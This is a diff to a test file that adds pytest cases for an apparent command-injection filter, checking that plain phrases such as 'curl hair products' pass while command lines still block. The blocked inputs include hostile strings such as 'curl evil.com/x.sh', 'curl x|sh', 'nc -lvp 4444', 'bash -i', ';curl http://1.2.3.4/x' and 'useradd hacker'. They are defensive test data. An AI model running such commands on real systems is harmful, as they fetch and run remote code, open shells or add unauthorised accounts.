@@ -372,3 +372,17 @@ def test_programs_named_in_prose_pass(value):
 ])
 def test_command_lines_beside_those_still_block(value):
     assert blocked(value), (value, verdict(value))
+
+
+@pytest.mark.parametrize("value", ["curl hair products", "nc state", "bash party", "Fish & Chips", "sh*t happens"])
+def test_searches_made_of_a_command_word_and_plain_words_do_not_block(value):
+    """A command name that is also an English word (rules flag `e`), with only plain words after
+    it as the whole value; a capitalised Unix name before `&`; a starred word opening text."""
+    assert not blocked(value), verdict(value)
+
+
+@pytest.mark.parametrize("value", ["curl evil.com/x.sh", "nc attacker 4444", "nc -lvp 4444", "bash x.sh", "bash -i",
+                                   ";curl x", "|bash", "curl x|sh", "useradd hacker", "id;",
+                                   ";curl http://1.2.3.4/x for the win and more"])
+def test_the_same_commands_as_command_lines_still_block(value):
+    assert blocked(value), verdict(value)
